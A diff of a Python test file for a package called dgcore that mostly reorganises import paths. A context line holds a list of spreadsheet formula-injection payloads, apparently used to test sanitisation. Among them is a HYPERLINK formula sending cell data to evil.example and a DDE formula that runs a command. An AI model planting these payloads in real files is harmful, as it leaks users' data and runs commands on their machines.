@@ -14,11 +14,13 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from dgcore import exports, importer
-from dgcore.accounts import SqliteAccountStore
-from dgcore.auth import authenticate
+from dgcore import importer
+
+from dgcore.documents import tables as exports
+from dgcore.accounts.store import SqliteAccountStore
+from dgcore.accounts.auth import authenticate
 from dgcore.db import current_version
-from dgcore.importer_read import MAX_FILE_BYTES
+from dgcore.importer.read import MAX_FILE_BYTES
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
             "\t=1+1", "\r=1+1"]
